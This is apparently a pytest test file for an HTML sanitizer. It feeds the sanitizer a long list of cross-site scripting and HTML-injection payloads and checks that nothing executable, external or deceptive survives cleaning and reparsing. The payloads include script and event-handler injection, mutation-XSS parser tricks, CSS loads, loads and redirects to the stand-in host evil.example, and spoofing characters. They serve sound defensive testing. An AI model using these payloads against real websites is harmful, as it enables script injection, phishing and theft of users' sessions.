"""Attacks on whoever opens a page: a browser finds nothing in the cleaned text that runs, loads or looks like something else."""

import pytest
from selectolax.lexbor import LexborHTMLParser

from gongkai.writing.rich_text import allowed, clean

ATTACKS = [
    # scripts
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//", "<body onload=alert(1)>", "<p onmouseover='alert(1)'>a",
    "<details open ontoggle=alert(1)>a", "<a href='jav&#x0A;ascript:alert(1)'>a", "<a href=\"java&Tab;script&colon;alert(1)\">a",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=code><button formaction=javascript:alert(1)>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<isindex action=javascript:alert(1)>", "<marquee onstart=alert(1)>a", "<x onclick=alert(1) tabindex=1>a</x>",
    "<button popovertarget=x onbeforetoggle=alert(1)>a</button>", "<template><img src=x onerror=alert(1)></template>",
    # SVG and MathML
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<math href=javascript:alert(1)>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    # style
    "<div style=\"background:url('javascript:alert(1)')\">a</div>", "<style>@import'//evil.example/x.css'</style>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>点此登录</p>", "<p style='behavior:url(x.htc)'>a</p>",
    "<style>p{color:red}</style><p class=login id=csrf name=cookie>a</p>", "<table background='//evil.example/x'><tr><td>a<td>b</table>",
    "<img src=/files/1/a.png srcset='//evil.example/x 2x' style='width:1px'>", "<p style=\"--x:url(//evil.example)\">a</p>",
    # what changes its meaning when it is parsed again
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><title><style><!--</title><img src=x onerror=alert(1)>--></style></svg>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<plaintext><img src=x onerror=alert(1)>", "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<p>&lt;img src=x onerror=alert(1)&gt;", "<a href=\"https://a.cn/&quot; onclick=&quot;alert(1)\">a</a>", "<?xml version=1?><?php echo 1 ?>",
    "<img alt='`><img src=x onerror=alert(1)>' src=/files/1/a.png>", "\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "<svg/><p/id=x/onclick=alert(1)>a",
    # what looks like something else
    "<a href='https://www.gov.cn@evil.example/'>国务院</a>", "<p>\u202egnp.txt\u202c</p>", "<p>a\u2066b\u200b\u00adc</p>",
    "<a href='/accounts/logout' ping='//evil.example' download>a</a>",
]  # fmt: skip
DANGEROUS = ("alert(1)", "evil.example")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_or_loads(attack: str) -> None:
    found = clean(attack)
    again = found.html
    for _ in range(2):
        _assert_harmless(again)
        again = LexborHTMLParser(again).body.inner_html
    assert clean(found.html).html == found.html


@pytest.mark.parametrize("around", ["<table>{}", "<ul>{}", "<svg>{}", "<math>{}", "<h2>{}", "<a href=/a>{}", "<select>{}", "<table><tr>{}", "<figure>{}"])
def test_nor_within_whatever_stands_around_it(around: str) -> None:
    for attack in ATTACKS:
        _assert_harmless(clean(around.format(attack)).html)


def _assert_harmless(html: str) -> None:
    for node in LexborHTMLParser(html).css("*"):
        assert node.tag in allowed.TAGS | {"html", "head", "body"}
        for name, value in node.attributes.items():
            assert name in allowed.ATTRIBUTES[node.tag]
            assert name not in ("href", "src") or not any(mark in str(value) for mark in DANGEROUS)
    assert not set("\u202e\u202c\u2066\u200b\u00ad\x00") & set(html)
